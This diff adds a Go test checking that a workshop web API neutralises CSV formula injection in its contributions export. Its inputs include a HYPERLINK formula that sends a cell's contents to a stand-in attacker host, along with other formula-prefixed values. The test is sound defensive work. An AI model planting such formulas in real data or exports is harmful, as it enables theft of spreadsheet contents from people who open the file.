@@ -1,0 +1,39 @@
+package web_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"testing"
+)
+
+func TestEveryCSVCellFromUserTextIsNeutralised(t *testing.T) {
+	s, _ := newServer(t)
+	do := func(role, method, url, body string, want int) string {
+		t.Helper()
+		w := call(t, s, role, method, url, body)
+		if w.Code != want {
+			t.Fatalf("%s %s as %s: %d, want %d: %s", method, url, role, w.Code, want, w.Body)
+		}
+		return w.Body.String()
+	}
+	const formula = `=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")`
+	do(admin, "PATCH", "/api/v1/workshops/3", `{"title":`+jsonString(formula)+`}`, 200)
+	do(facil, "POST", "/api/v1/workshops/3/contributions", `{"category":"future_commitments","text":"+SUM(1;2)","author":"@Regards","consent":true,"publishable":true}`, 201)
+	do(facil, "POST", "/api/v1/workshops/3/contributions", `{"category":"impact_indicators","text":"  -2+3","publishable":true}`, 201)
+	for _, ws := range []string{"1", "2", "3", "4", "5"} {
+		do(admin, "POST", "/api/v1/workshops/"+ws+"/minutes/approve", "", 200)
+	}
+	do(orgSERE, "POST", "/api/v1/events/1/minutes/publish", "", 200)
+	rows, err := csv.NewReader(bytes.NewReader([]byte(do(anonymous, "GET", "/api/v1/events/1/contributions.csv", "", 200)))).ReadAll()
+	if err != nil || len(rows) != 3 {
+		t.Fatalf("csv: %v %q", err, rows)
+	}
+	for i, want := range [][3]string{{"'" + formula, "'+SUM(1;2)", "'@Regards"}, {"'" + formula, "'  -2+3", ""}} {
+		if r := rows[i+1]; r[4] != want[0] || r[7] != want[1] || r[8] != want[2] {
+			t.Errorf("row %d: workshop %q, text %q, author %q; want %q", i+1, r[4], r[7], r[8], want)
+		}
+	}
+}
+
+func jsonString(s string) string { b, _ := json.Marshal(s); return string(b) }
